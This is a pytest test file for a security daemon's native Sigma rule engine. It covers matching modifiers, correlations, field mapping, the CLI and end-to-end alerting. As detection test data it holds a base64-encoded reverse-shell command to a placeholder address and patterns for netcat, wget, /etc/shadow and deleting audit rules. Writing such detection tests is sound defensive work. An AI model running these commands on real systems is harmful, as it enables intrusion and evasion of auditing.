"""Sigma rules run natively (issue #17, item 1): modifiers, conditions, correlations, mapping problems,
the CLI, raw vendor fields, and a Sigma rule raising an alert from lines the daemon tails.

Every Sigma rule here is written for these tests (SigmaHQ's rules are DRL 1.1 and stay out of the project).
"""

from __future__ import annotations

import base64
import os
import re
import signal
import sqlite3
import subprocess
import sys
import textwrap
import time
from pathlib import Path
from typing import Any

import orjson
import pytest

from sentinel.cli.main import main
from sentinel.conf.models import DetectionSettings
from sentinel.daemon.build import database_path
from sentinel.daemon.collectors import load_collector_layers
from sentinel.decode.engine import Decoder
from sentinel.detect.compiled import CompiledRule
from sentinel.detect.engine import RuleEngine
from sentinel.detect.sigma.loader import SigmaLoad, load_sigma
from sentinel.events.model import Event
from sentinel.events.records import RawRecord
from sentinel.shipped import shipped_path
from sentinel.store.schema import DDL
from tests.fixtures.common import MakeConfig

ROOT = Path(__file__).resolve().parents[1]
T0 = 1_767_225_600.0  # 2026-01-01T00:00:00Z


def write(folder: Path, name: str, text: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(textwrap.dedent(text).lstrip())
    return path


def load(tmp_path: Path, text: str) -> SigmaLoad:
    return load_sigma([write(tmp_path / "rules", "rule.yml", text)])


def only(tmp_path: Path, detection: str, logsource: str = "{product: linux, service: auditd}") -> CompiledRule:
    """The one rule of a Sigma document with this detection."""
    loaded = load(tmp_path, f"title: Test rule\nid: 5b0c6f3e-0000-4000-8000-000000000001\nlogsource: {logsource}\n"
                            f"detection:\n{textwrap.indent(textwrap.dedent(detection), '    ')}level: medium\n")
    assert not loaded.errors and not loaded.skipped, (loaded.errors, loaded.skipped)
    (rule,) = loaded.rules
    return rule


def auditd(**fields: Any) -> dict[str, Any]:
    return {"event.dataset": "auditd.log", **fields}


# --------------------------------------------------------------------------------------- matching semantics
def test_plain_values_match_case_insensitively_and_lists_are_one_of(tmp_path: Path) -> None:
    rule = only(tmp_path, """
        selection:
            process.name: ['Chattr', 'setfattr']
        condition: selection
    """.replace("process.name", "comm"))
    assert rule.predicate(auditd(**{"process.name": "CHATTR"}))
    assert rule.predicate(auditd(**{"process.name": "setfattr"}))
    assert not rule.predicate(auditd(**{"process.name": "chattr2"}))
    # The logsource decides which events a rule sees: the same value from another dataset is not a match.
    assert not rule.predicate({"event.dataset": "system.auth", "process.name": "chattr"})


def test_contains_startswith_endswith_and_wildcards(tmp_path: Path) -> None:
    rule = only(tmp_path, """
        sel_contains:
            a1|contains: 'shadow'
        sel_starts:
            a2|startswith: '/tmp/'
        sel_ends:
            exe|endswith: '/nc'
        sel_wild:
            a3: 'wget*http?//*'
        condition: 1 of sel_*
    """)
    assert rule.predicate(auditd(**{"auditd.log.a1": "/etc/SHADOW-"}))
    assert rule.predicate(auditd(**{"auditd.log.a2": "/TMP/x"}))
    assert not rule.predicate(auditd(**{"auditd.log.a2": "/var/tmp/x"}))
    assert rule.predicate(auditd(**{"process.executable": "/usr/bin/nc"}))
    assert not rule.predicate(auditd(**{"process.executable": "/usr/bin/ncat"}))
    assert rule.predicate(auditd(**{"auditd.log.a3": "wget http://x"}))
    assert not rule.predicate(auditd(**{"auditd.log.a3": "curl http://x"}))
    assert not rule.predicate(auditd())


def test_cased_keeps_case(tmp_path: Path) -> None:
    rule = only(tmp_path, """
        selection:
            a0|cased: 'Invoke'
        condition: selection
    """)
    assert rule.predicate(auditd(**{"auditd.log.a0": "Invoke"}))
    assert not rule.predicate(auditd(**{"auditd.log.a0": "invoke"}))


def test_all_needs_every_value(tmp_path: Path) -> None:
    rule = only(tmp_path, """
        selection:
            a1|contains|all: ['-i', '/etc/']
        condition: selection
    """)
    assert rule.predicate(auditd(**{"auditd.log.a1": "-i /etc/passwd"}))
    assert not rule.predicate(auditd(**{"auditd.log.a1": "-i /var/passwd"}))


def test_re_and_cidr(tmp_path: Path) -> None:
    rule = only(tmp_path, """
        sel_re:
            a1|re: '^-[a-z]*x[a-z]*$'
        sel_net:
            addr|cidr: ['10.0.0.0/8', '2001:db8::/32']
        condition: sel_re or sel_net
    """)
    assert rule.predicate(auditd(**{"auditd.log.a1": "-abxc"}))
    assert not rule.predicate(auditd(**{"auditd.log.a1": "-ABXC"}))  # a regular expression is case-sensitive
    assert rule.predicate(auditd(**{"source.ip": "10.2.3.4"}))
    assert rule.predicate(auditd(**{"source.ip": "2001:db8::5"}))
    assert not rule.predicate(auditd(**{"source.ip": "11.2.3.4"}))
    assert not rule.predicate(auditd(**{"source.ip": "not an address"}))


def test_windash_matches_every_dash(tmp_path: Path) -> None:
    rule = only(tmp_path, """
        selection:
            a1|windash|contains: '-enc'
        condition: selection
    """)
    for spelling in ("-enc", "/enc", "\u2013enc", "\u2014enc", "\u2015enc"):
        assert rule.predicate(auditd(**{"auditd.log.a1": f"x {spelling} y"})), spelling
    assert not rule.predicate(auditd(**{"auditd.log.a1": "x enc y"}))


def test_base64offset_finds_the_text_at_any_offset(tmp_path: Path) -> None:
    rule = only(tmp_path, """
        selection:
            a2|base64offset|contains: 'bash -i'
        condition: selection
    """)
    for pad in ("", "x", "xy"):
        encoded = base64.b64encode(f"{pad}bash -i >& /dev/tcp/1.2.3.4/4444".encode()).decode()
        assert rule.predicate(auditd(**{"auditd.log.a2": f"echo {encoded} | base64 -d"})), pad
    assert not rule.predicate(auditd(**{"auditd.log.a2": base64.b64encode(b"sh -c true").decode()}))


def test_exists_and_null(tmp_path: Path) -> None:
    rule = only(tmp_path, """
        selection:
            key|exists: true
            unit|exists: false
        condition: selection
    """)
    assert rule.predicate(auditd(**{"auditd.log.key": "x"}))
    assert not rule.predicate(auditd(**{"auditd.log.key": "x", "auditd.log.unit": "sshd"}))
    assert not rule.predicate(auditd())
    empty = only(tmp_path, """
        selection:
            key: null
        condition: selection
    """)
    assert empty.predicate(auditd()) and empty.predicate(auditd(**{"auditd.log.key": ""}))
    assert not empty.predicate(auditd(**{"auditd.log.key": "k"}))


def test_numbers_compare_as_numbers_and_lists_match_any_member(tmp_path: Path) -> None:
    rule = only(tmp_path, """
        selection:
            euid: 33
            type: EXECVE
        condition: selection
    """)
    assert rule.predicate(auditd(**{"auditd.log.euid": "33", "auditd.log.records": ["SYSCALL", "EXECVE"]}))
    assert not rule.predicate(auditd(**{"auditd.log.euid": "330", "auditd.log.records": ["SYSCALL", "EXECVE"]}))
    assert not rule.predicate(auditd(**{"auditd.log.euid": 33, "auditd.log.records": ["SYSCALL", "PATH"]}))


def test_keywords_search_the_raw_line(tmp_path: Path) -> None:
    rule = only(tmp_path, """
        keywords:
            - 'Segmentation Fault'
            - 'stack smashing detected'
        condition: keywords
    """, "{product: linux}")
    line = "Jan  1 00:00:00 web1 kernel: app[42]: segmentation fault at 0 ip 00"
    assert rule.predicate({"event.dataset": "system.auth", "event.original": line})
    assert not rule.predicate({"event.dataset": "system.auth", "event.original": "all is well",
                               "message": "segmentation fault"})  # the raw line, not another field


# --------------------------------------------------------------------------------------------- conditions
def test_one_of_all_of_them_and_not(tmp_path: Path) -> None:
    one = only(tmp_path, """
        selection_a:
            comm: a
        selection_b:
            comm: b
        filter:
            exe|startswith: /opt/
        condition: 1 of selection_* and not filter
    """)
    assert one.predicate(auditd(**{"process.name": "b", "process.executable": "/usr/bin/b"}))
    assert not one.predicate(auditd(**{"process.name": "b", "process.executable": "/opt/b"}))
    assert not one.predicate(auditd(**{"process.name": "c"}))
    every = only(tmp_path, """
        sel1:
            comm: a
        sel2:
            exe|endswith: /a
        condition: all of them
    """)
    assert every.predicate(auditd(**{"process.name": "a", "process.executable": "/bin/a"}))
    assert not every.predicate(auditd(**{"process.name": "a", "process.executable": "/bin/b"}))
    grouped = only(tmp_path, """
        a:
            comm: a
        b:
            comm: b
        c:
            exe: /x
        condition: (a or b) and not c
    """)
    assert grouped.predicate(auditd(**{"process.name": "a"}))
    assert not grouped.predicate(auditd(**{"process.name": "a", "process.executable": "/x"}))


def test_a_list_of_maps_is_one_of_them(tmp_path: Path) -> None:
    rule = only(tmp_path, """
        selection:
            - comm: a
              exe: /bin/a
            - comm: b
        condition: selection
    """)
    assert rule.predicate(auditd(**{"process.name": "a", "process.executable": "/bin/a"}))
    assert not rule.predicate(auditd(**{"process.name": "a"}))
    assert rule.predicate(auditd(**{"process.name": "b"}))


# ------------------------------------------------------------------------------------- level, tags, ids
def test_level_tags_and_identity(tmp_path: Path) -> None:
    loaded = load(tmp_path, """
        title: Audit rules deleted
        id: 5b0c6f3e-0000-4000-8000-0000000000aa
        status: test
        description: Someone ran auditctl -D.
        falsepositives: [Administrators reloading rules]
        logsource: {product: linux, service: auditd}
        detection:
            selection: {type: EXECVE, a0: auditctl, a1: -D}
            condition: selection
        level: informational
        tags: [attack.defense_evasion, attack.t1562.012, attack.g0016, cve.2021-4034]
    """)
    (rule,) = loaded.rules
    assert rule.id == "sigma-5b0c6f3e-0000-4000-8000-0000000000aa"
    assert rule.spec.severity == "info" and rule.spec.title == "Audit rules deleted"
    assert rule.spec.tags == ["attack:TA0005", "attack:T1562.012", "attack-g:g0016", "cve:2021-4034"]
    assert "Administrators reloading rules" in rule.spec.runbook
    for level, severity in (("low", "low"), ("medium", "medium"), ("high", "high"), ("critical", "critical")):
        text = re.sub(r"level: \w+", f"level: {level}", (tmp_path / "rules" / "rule.yml").read_text())
        (tmp_path / "rules" / "rule.yml").write_text(text)
        assert load_sigma([tmp_path / "rules" / "rule.yml"]).rules[0].spec.severity == severity


# ---------------------------------------------------------------------------------- mapping problems
def test_unknown_logsource_and_unmapped_field_are_skipped_with_file_and_reason(tmp_path: Path) -> None:
    folder = tmp_path / "rules"
    m365 = write(folder, "m365.yml", """
        title: Mailbox rule
        logsource: {product: m365, service: exchange}
        detection: {sel: {Operation: New-InboxRule}, condition: sel}
    """)
    field = write(folder, "field.yml", """
        title: Name type
        logsource: {product: linux, service: auditd}
        detection: {sel: {nametype: CREATE}, condition: sel}
    """)
    okta = write(folder, "okta.yml", """
        title: Not an Okta field
        logsource: {product: okta, service: okta}
        detection: {sel: {ResultType: 50057}, condition: sel}
    """)
    loaded = load_sigma([m365, field, okta])
    assert loaded.rules == [] and loaded.errors == []
    by_file = {Path(p.location.file).name: p.message for p in loaded.skipped if p.location}
    assert "unknown logsource {product: m365, service: exchange}" in by_file["m365.yml"]
    assert "unmapped field 'nametype'" in by_file["field.yml"]
    assert "unmapped field 'ResultType': not a field of the okta record" in by_file["okta.yml"]


def test_what_cannot_be_judged_as_events_arrive_is_skipped_not_guessed(tmp_path: Path) -> None:
    loaded = load(tmp_path, """
        title: Base
        name: base_rule
        logsource: {product: linux, service: auth}
        detection: {sel: {User: root}, condition: sel}
        ---
        title: Too few logins
        correlation:
            type: event_count
            rules: [base_rule]
            group-by: [User]
            timespan: 1h
            condition: {lt: 3}
    """)
    (problem,) = loaded.skipped
    assert "Too few logins" in problem.message and "condition lt is not supported" in problem.message


def test_invalid_sigma_is_an_error_with_file_and_line(tmp_path: Path) -> None:
    folder = tmp_path / "rules"
    broken_yaml = write(folder, "yaml.yml", "title: x\ndetection: [unclosed\n")
    undefined = write(folder, "undefined.yml", """
        title: Undefined selection
        logsource: {product: linux}
        detection:
            selection: {a0: x}
            condition: selection and filter
    """)
    no_detection = write(folder, "nodetect.yml", "title: Nothing\nlogsource: {product: linux}\n")
    loaded = load_sigma([broken_yaml, undefined, no_detection])
    messages = {Path(e.location.file).name: (e.location.line, e.message) for e in loaded.errors if e.location}
    assert messages["yaml.yml"][0] is not None and "not valid YAML" in messages["yaml.yml"][1]
    assert "not valid Sigma" in messages["nodetect.yml"][1]
    # pySigma parses the condition lazily: an undefined identifier is found when sentinel compiles it.
    skipped = " ".join(str(s) for s in loaded.skipped)
    assert "undefined.yml" in skipped and "filter" in skipped
    assert loaded.rules == []


def test_sentinel_check_reports_sigma_problems(tmp_path: Path, make_config: MakeConfig,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    rules = tmp_path / "site-rules"
    write(rules, "ok.yml", """
        title: Root over SSH
        logsource: {product: linux, service: sshd}
        detection: {keywords: ['Accepted password for root'], condition: keywords}
        level: high
    """)
    write(rules, "gcp.yml", """
        title: Workspace admin
        logsource: {product: gcp, service: google_workspace.admin}
        detection: {sel: {eventName: CHANGE_PASSWORD}, condition: sel}
    """)
    cfg = make_config(rules_dir=str(rules))
    assert main(["check", "--config", str(cfg.path)]) == 0  # a rule sentinel cannot run is a warning
    out = capsys.readouterr()
    text = out.out + out.err
    assert f"{rules / 'gcp.yml'}: Sigma rule 'Workspace admin' not loaded: unknown logsource" in text
    write(rules, "bad.yml", "title: Bad\nlogsource: {product: linux}\ndetection: {condition: sel}\n")
    assert main(["check", "--config", str(cfg.path)]) == 1  # an invalid file is an error
    out = capsys.readouterr()
    assert str(rules / "bad.yml") in out.out + out.err


# --------------------------------------------------------------------------------------------- correlations
def engine_for(rules: list[CompiledRule]) -> tuple[RuleEngine, sqlite3.Connection]:
    conn = sqlite3.connect(":memory:", isolation_level=None)
    conn.executescript(DDL)
    return RuleEngine(rules, DetectionSettings(), conn), conn


def feed(engine: RuleEngine, conn: sqlite3.Connection, events: list[dict[str, Any]]) -> list[tuple[str, int]]:
    batch = []
    for i, fields in enumerate(events):
        ts = T0 + fields.pop("at")
        batch.append(Event(f"e{i}", ts, "test", {"event.id": f"e{i}", "host.name": "h", **fields}))
    conn.execute("BEGIN")
    engine.process(conn, batch, T0 + 10_000)
    conn.execute("COMMIT")
    return [(r[0], r[1]) for r in conn.execute("SELECT rule_id, count FROM alerts ORDER BY rowid")]


BASES = """
title: SSH failure
id: 5b0c6f3e-0000-4000-8000-0000000000b1
name: ssh_failure
logsource: {product: linux, service: sshd}
detection: {keywords: ['Failed password'], condition: keywords}
level: low
---
title: SSH success
id: 5b0c6f3e-0000-4000-8000-0000000000b2
name: ssh_success
logsource: {product: linux, service: sshd}
detection: {keywords: ['Accepted password'], condition: keywords}
level: low
"""


def ssh(at: float, result: str, user: str, ip: str = "203.0.113.9") -> dict[str, Any]:
    return {"at": at, "event.dataset": "system.auth", "process.name": "sshd", "user.name": user, "source.ip": ip,
            "event.original": f"sshd[1]: {result} password for {user} from {ip} port 22 ssh2"}


def correlation(tmp_path: Path, body: str) -> list[CompiledRule]:
    loaded = load(tmp_path, BASES + "---\n" + textwrap.dedent(body))
    assert not loaded.errors and not loaded.skipped, (loaded.errors, loaded.skipped)
    return loaded.rules


def test_event_count_is_a_threshold_per_group_within_the_timespan(tmp_path: Path) -> None:
    rules = correlation(tmp_path, """
        title: Many SSH failures
        id: 5b0c6f3e-0000-4000-8000-0000000000c1
        correlation:
            type: event_count
            rules: [ssh_failure]
            group-by: [User]
            timespan: 5m
            condition: {gte: 3}
        level: high
    """)
    # The rule the correlation counts feeds it only (generate is false): it raises nothing itself; the other
    # rule of the file is a rule of its own.
    assert [(r.spec.title, r.spec.enabled) for r in rules] == [
        ("SSH failure", False), ("SSH success", True), ("Many SSH failures", True)]
    engine, conn = engine_for([r for r in rules if r.spec.type == "threshold"])
    quiet = [ssh(0, "Failed", "alice"), ssh(60, "Failed", "bob"), ssh(400, "Failed", "alice"),
             ssh(120, "Accepted", "alice")]
    assert feed(engine, conn, quiet) == []  # alice's failures are 400 s apart, bob has one
    assert feed(engine, conn, [ssh(410, "Failed", "alice"), ssh(420, "Failed", "alice")]) == [
        ("sigma-5b0c6f3e-0000-4000-8000-0000000000c1", 3)]
    (spec,) = [r.spec for r in rules if r.spec.type == "threshold"]
    assert spec.type == "threshold" and spec.group_by == ["user.name"] and spec.severity == "high"


def test_value_count_counts_distinct_values(tmp_path: Path) -> None:
    rules = correlation(tmp_path, """
        title: Spray from one address
        id: 5b0c6f3e-0000-4000-8000-0000000000c2
        correlation:
            type: value_count
            rules: [ssh_failure]
            group-by: [SourceIP]
            timespan: 10m
            condition: {gte: 3, field: User}
    """)
    engine, conn = engine_for([r for r in rules if r.spec.type == "threshold"])
    assert feed(engine, conn, [ssh(i, "Failed", "alice") for i in range(5)]) == []  # one account, five times
    assert feed(engine, conn, [ssh(10, "Failed", "bob"), ssh(11, "Failed", "carol", "198.51.100.1")]) == []
    assert feed(engine, conn, [ssh(12, "Failed", "dave")]) == [("sigma-5b0c6f3e-0000-4000-8000-0000000000c2", 7)]


def test_temporal_ordered_needs_the_order(tmp_path: Path) -> None:
    rules = correlation(tmp_path, """
        title: Failures then success
        id: 5b0c6f3e-0000-4000-8000-0000000000c3
        correlation:
            type: temporal_ordered
            rules: [ssh_failure, ssh_success]
            group-by: [User]
            timespan: 10m
    """)
    assert [r.spec.enabled for r in rules] == [False, False, True]  # both rules feed it only
    engine, conn = engine_for([r for r in rules if r.spec.enabled])
    assert feed(engine, conn, [ssh(0, "Accepted", "alice"), ssh(10, "Failed", "alice")]) == []
    assert feed(engine, conn, [ssh(20, "Accepted", "bob")]) == []
    assert feed(engine, conn, [ssh(30, "Accepted", "alice")]) == [("sigma-5b0c6f3e-0000-4000-8000-0000000000c3", 2)]
    assert feed(engine, conn, [ssh(40, "Failed", "erin"), ssh(1000, "Accepted", "erin")]) == [
        ("sigma-5b0c6f3e-0000-4000-8000-0000000000c3", 2)]  # erin's success came after the timespan: no second


def test_temporal_takes_any_order_and_generate_keeps_the_base_rules(tmp_path: Path) -> None:
    rules = correlation(tmp_path, """
        title: Both within the hour
        id: 5b0c6f3e-0000-4000-8000-0000000000c4
        correlation:
            type: temporal
            rules: [ssh_failure, ssh_success]
            group-by: [User]
            timespan: 1h
            generate: true
    """)
    assert all(r.spec.enabled for r in rules)
    engine, conn = engine_for([r for r in rules if r.spec.type == "sequence"])
    assert feed(engine, conn, [ssh(0, "Accepted", "alice")]) == []
    assert feed(engine, conn, [ssh(10, "Failed", "alice")]) == [("sigma-5b0c6f3e-0000-4000-8000-0000000000c4", 2)]
    assert feed(engine, conn, [ssh(20, "Failed", "bob"), ssh(4000, "Accepted", "bob")]) == [
        ("sigma-5b0c6f3e-0000-4000-8000-0000000000c4", 2)]


def test_correlation_state_survives_a_restart_and_a_rolled_back_batch(tmp_path: Path) -> None:
    """The window lives in the rule state that commits with the batch: a new engine on the same database
    carries on, and a batch whose transaction rolled back counts for nothing."""
    rules = [r for r in correlation(tmp_path, """
        title: Many SSH failures
        id: 5b0c6f3e-0000-4000-8000-0000000000c5
        correlation: {type: event_count, rules: [ssh_failure], group-by: [User], timespan: 5m,
                      condition: {gte: 3}}
    """) if r.spec.type == "threshold"]
    db = tmp_path / "state.db"
    conn = sqlite3.connect(db, isolation_level=None)
    conn.executescript(DDL)
    engine = RuleEngine(rules, DetectionSettings(), conn)
    assert feed(engine, conn, [ssh(0, "Failed", "alice"), ssh(1, "Failed", "alice")]) == []
    conn.execute("BEGIN")
    engine.process(conn, [Event("x", T0 + 2, "t", {"event.id": "x", **{k: v for k, v in ssh(2, "Failed", "alice")
                                                                          .items() if k != "at"}})], T0)
    conn.execute("ROLLBACK")
    conn.close()
    conn = sqlite3.connect(db, isolation_level=None)
    engine = RuleEngine(rules, DetectionSettings(), conn)
    assert feed(engine, conn, [ssh(3, "Failed", "alice")]) == [("sigma-5b0c6f3e-0000-4000-8000-0000000000c5", 3)]


# ---------------------------------------------------------------------------------- raw vendor fields
def decode(collector: str, line: str) -> dict[str, Any]:
    collectors, errors = load_collector_layers([shipped_path("collectors")])
    assert not errors
    decoder = Decoder(collectors[collector].spec, "UTC", collector)
    data = line.encode()
    event, outcome = decoder.decode(RawRecord(collector, "s", "/x", 0, len(data), data), T0)
    assert outcome != "unparsed"
    return event.fields


def test_vendor_fields_survive_decoding_so_sigma_rules_can_match(tmp_path: Path) -> None:
    okta = decode("okta", orjson.dumps({
        "uuid": "u1", "published": "2026-01-01T00:00:00Z", "eventType": "policy.lifecycle.update",
        "actor": {"alternateId": "admin@example.com"}, "outcome": {"result": "SUCCESS"},
        "securityContext": {"isProxy": True}, "debugContext": {"debugData": {"requestUri": "/api/v1/policies/x"}},
        "target": [{"type": "Policy", "displayName": "MFA policy"}, {"type": "User", "displayName": "Jo"}]}).decode())
    assert okta["okta.debugContext.debugData.requestUri"] == "/api/v1/policies/x"
    rule = only(tmp_path, """
        selection:
            eventType: policy.lifecycle.update
            securityContext.isProxy: 'true'
            target.displayName: 'MFA Policy'
            debugContext.debugData.requestUri|contains: '/policies/'
        condition: selection
    """, "{product: okta, service: okta}")
    assert rule.predicate(okta)
    assert not rule.predicate({**okta, "okta.securityContext.isProxy": False})

    entra = decode("entra", orjson.dumps({
        "time": "2026-01-01T00:00:00Z", "category": "SignInLogs", "resultType": "50126",
        "properties": {"userPrincipalName": "jo@example.com", "status": {"errorCode": 50126},
        "authenticationRequirement": "singleFactorAuthentication", "clientAppUsed": "IMAP4",
        "deviceDetail": {"trustType": ""}}}).decode())
    rule = only(tmp_path, """
        selection:
            ResultType: 50126
            AuthenticationRequirement: singleFactorAuthentication
            ClientApp: IMAP4
        condition: selection
    """, "{product: azure, service: signinlogs}")
    assert rule.predicate(entra)
    assert not rule.predicate({**entra, "azure.signinlogs.properties.clientAppUsed": "Browser"})

    exe = decode("auditd", "\n".join([
        'type=SYSCALL msg=audit(1767225600.000:7): arch=c000003e syscall=59 success=yes exit=0 items=1 '
        'pid=99 auid=1000 uid=0 euid=0 comm="auditctl" exe="/usr/sbin/auditctl" key="audit_cmd"',
        'type=EXECVE msg=audit(1767225600.000:7): argc=3 a0="auditctl" a1="-D" a2=2D6B',
        'type=PATH msg=audit(1767225600.000:7): item=0 name="/usr/sbin/auditctl" nametype=NORMAL']))
    assert [exe.get(f"auditd.log.a{i}") for i in range(4)] == ["auditctl", "-D", "-k", None]
    rule = only(tmp_path, """
        selection:
            type: EXECVE
            a0: auditctl
            a1: -D
            name|endswith: /auditctl
        condition: selection
    """)
    assert rule.predicate(exe)
    assert not rule.predicate({**exe, "auditd.log.a1": "-l"})


# ------------------------------------------------------------------------------------------------- CLI
SITE_RULE = """
title: Okta admin privilege granted
id: 5b0c6f3e-0000-4000-8000-0000000000d1
logsource: {product: okta, service: okta}
detection:
    selection: {eventType: user.account.privilege.grant}
    filter: {actor.alternateId|endswith: '@it.example.com'}
    condition: selection and not filter
level: high
tags: [attack.persistence, attack.t1098.003]
"""


def test_rules_source_sigma_and_test_rule(tmp_path: Path, make_config: MakeConfig,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    rules = tmp_path / "site-rules"
    write(rules, "okta-admin.yml", SITE_RULE)
    write(rules, "duo.yml", "title: Duo\nlogsource: {product: cisco, service: duo}\n"
                            "detection: {sel: {event_type: x}, condition: sel}\n")
    cfg = make_config(rules_dir=str(rules))
    assert main(["rules", "--source", "sigma", "--config", str(cfg.path)]) == 0
    out = capsys.readouterr().out
    assert "sigma-5b0c6f3e-0000-4000-8000-0000000000d1 high" in out and "Okta admin privilege granted" in out
    assert "mfa-push-bombing" not in out  # a native rule
    assert "1 rule(s) enabled" in out and "'Duo' not loaded: unknown logsource {product: cisco, service: duo}" in out
    assert main(["rules", "--source", "native", "--config", str(cfg.path)]) == 0
    assert "sigma-" not in capsys.readouterr().out

    events = tmp_path / "events.jsonl"
    events.write_text("\n".join(orjson.dumps({"@timestamp": f"2026-01-01T00:0{i}:00Z", "event.dataset": "okta.system",
                                              "event.code": "user.account.privilege.grant", "user.name": who,
                                              "host.name": "acme.okta.com"}).decode()
                                for i, who in enumerate(["mallory@evil.example", "bob@it.example.com"])) + "\n")
    assert main(["test-rule", "sigma-5b0c6f3e-0000-4000-8000-0000000000d1", "--events", str(events),
                 "--config", str(cfg.path)]) == 0
    out = capsys.readouterr().out
    assert "2 events, 1 matched the filter, 1 alert(s)" in out
    assert "Okta admin privilege granted: mallory@evil.example on acme.okta.com" in out


# ------------------------------------------------------------------------------------------- end to end
def test_the_daemon_raises_a_sigma_alert_from_lines_it_tails(tmp_path: Path, make_config: MakeConfig) -> None:
    rules = tmp_path / "site-rules"
    write(rules, "okta-admin.yml", SITE_RULE)
    write(rules, "ssh-failures.yml", BASES + """---
title: Many SSH failures
id: 5b0c6f3e-0000-4000-8000-0000000000e1
correlation: {type: event_count, rules: [ssh_failure], group-by: [User], timespan: 5m, condition: {gte: 3}}
level: high
""")
    okta_log, auth_log = tmp_path / "okta.jsonl", tmp_path / "auth.log"
    okta_log.touch()
    auth_log.touch()
    cfg = make_config(rules_dir=str(rules), sources=[{"collector": "okta", "paths": [str(okta_log)]},
                                                     {"collector": "linux-auth", "paths": [str(auth_log)]}])
    log = (tmp_path / "daemon.log").open("ab")
    proc = subprocess.Popen([sys.executable, "-m", "sentinel", "run", "-c", str(cfg.path)],
                            env={**os.environ, "PYTHONPATH": str(ROOT)}, stdout=log, stderr=log)
    try:
        time.sleep(1.0)
        grant = {"uuid": "g1", "published": "2026-01-01T00:00:00Z", "eventType": "user.account.privilege.grant",
                 "actor": {"alternateId": "mallory@evil.example"}, "outcome": {"result": "SUCCESS"}, "target": []}
        benign = {**grant, "uuid": "g2", "actor": {"alternateId": "bob@it.example.com"}}
        with okta_log.open("a") as fh:
            fh.write(orjson.dumps(benign).decode() + "\n" + orjson.dumps(grant).decode() + "\n")
        with auth_log.open("a") as fh:
            for i in range(3):
                fh.write(f"Jan  1 00:00:0{i} web1 sshd[{100 + i}]: Failed password for carol from 203.0.113.9 "
                         f"port {4000 + i} ssh2\n")
        found: list[tuple[str, str]] = []
        deadline = time.monotonic() + 60
        while len(found) < 2 and time.monotonic() < deadline:
            time.sleep(0.2)
            if database_path(cfg).exists():
                conn = sqlite3.connect(f"file:{database_path(cfg)}?mode=ro", uri=True, timeout=5)
                try:
                    found = [(r[0], r[1]) for r in conn.execute("SELECT rule_id, summary FROM alerts "
                                                                "WHERE rule_id LIKE 'sigma-%' ORDER BY rule_id")]
                except sqlite3.OperationalError:
                    found = []
                finally:
                    conn.close()
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(30)
    assert found == [
        ("sigma-5b0c6f3e-0000-4000-8000-0000000000d1", "Okta admin privilege granted: mallory@evil.example on okta"),
        ("sigma-5b0c6f3e-0000-4000-8000-0000000000e1", "Many SSH failures: 3 in 5m (carol)"),
    ], (tmp_path / "daemon.log").read_text()[-3000:]


def test_the_corpus_measurement_when_the_sigmahq_rules_are_present() -> None:
    from tests.sigma_corpus import CORPUS, measure

    if not CORPUS.is_dir():
        pytest.skip(f"no SigmaHQ corpus at {CORPUS}")
    outcome = measure(CORPUS)
    assert outcome.files == outcome.parsed, "pySigma loads every file"
    assert outcome.errors == []
    assert outcome.mapped + len(outcome.skipped) == outcome.rules
    assert outcome.failures == []
    assert outcome.fired == outcome.near_missed == outcome.mapped > 0
    assert all(" not loaded: " in s for s in outcome.skipped)


def test_check_counts_the_sigma_rules(tmp_path: Path, make_config: MakeConfig,
                                      capsys: pytest.CaptureFixture[str]) -> None:
    rules = tmp_path / "site-rules"
    write(rules, "okta-admin.yml", SITE_RULE)
    write(rules, "duo.yml", "title: Duo\nlogsource: {product: cisco, service: duo}\n"
                            "detection: {sel: {event_type: x}, condition: sel}\n")
    cfg = make_config(rules_dir=str(rules))
    assert main(["check", "--config", str(cfg.path)]) == 0
    assert "(1 Sigma, 1 Sigma not loaded)" in capsys.readouterr().out


def test_a_sigma_filter_and_timestamp_modifiers_are_reported_not_guessed(tmp_path: Path) -> None:
    folder = tmp_path / "rules"
    rule = write(folder, "rule.yml", """
        title: Base
        name: base_rule
        logsource: {product: linux, service: auditd}
        detection: {sel: {comm: x}, condition: sel}
    """)
    meta = write(folder, "filter.yml", """
        title: Not on the build host
        logsource: {product: linux, service: auditd}
        filter:
            rules: [base_rule]
            selection: {exe: /usr/bin/make}
            condition: not selection
    """)
    hour = write(folder, "hour.yml", """
        title: At 3 in the morning
        logsource: {product: linux, service: auditd}
        detection: {sel: {pid|hour: 3}, condition: sel}
    """)
    loaded = load_sigma([rule, meta, hour])
    assert [r.spec.title for r in loaded.rules] == ["Base"] and loaded.errors == []
    reasons = sorted(p.message for p in loaded.skipped)
    assert len(reasons) == 2
    assert "Sigma filter 'Not on the build host' not loaded: filters are not supported" in reasons[0]
    assert "'At 3 in the morning' not loaded: timestamp part modifiers" in reasons[1]


def test_a_number_keyword_is_searched_as_text(tmp_path: Path) -> None:
    rule = only(tmp_path, """
        keywords: [4444]
        condition: keywords
    """, "{product: linux}")
    assert rule.predicate({"event.dataset": "system.auth", "event.original": "connect to 10.0.0.1:4444 refused"})
    assert not rule.predicate({"event.dataset": "system.auth", "event.original": "connect to 10.0.0.1:444"})


def test_numeric_comparisons(tmp_path: Path) -> None:
    rule = only(tmp_path, """
        sel_gte:
            euid|gte: 1000
        sel_lt:
            uid|lt: 10
        condition: sel_gte and sel_lt
    """)
    assert rule.predicate(auditd(**{"auditd.log.euid": "1000", "auditd.log.uid": "0"}))
    assert not rule.predicate(auditd(**{"auditd.log.euid": "999", "auditd.log.uid": "0"}))
    assert not rule.predicate(auditd(**{"auditd.log.euid": "1000", "auditd.log.uid": "10"}))
    assert not rule.predicate(auditd(**{"auditd.log.euid": "many", "auditd.log.uid": "0"}))


def test_the_pipeline_only_names_datasets_and_fields_the_shipped_collectors_write() -> None:
    """A pipeline entry pointing at a field no collector writes would make a rule 'mapped' that can never fire."""
    from sentinel.decode.vocabulary import vocabulary_of
    from sentinel.detect.sigma.pipeline import shipped_pipeline

    collectors, errors = load_collector_layers([shipped_path("collectors")])
    assert not errors
    specs = [c.spec for c in collectors.values()]
    vocabulary = vocabulary_of(specs)
    datasets = {str(s.set.get("event.dataset")) for s in specs}
    raw = {s.raw for s in specs if s.raw}
    decoder_written = {"event.original", "auditd.log.records"}  # the decoder itself, for every record
    for entry in shipped_pipeline().by_key.values():
        assert set(entry.datasets) <= datasets, entry.logsource
        assert entry.raw is None or entry.raw in raw, entry.logsource
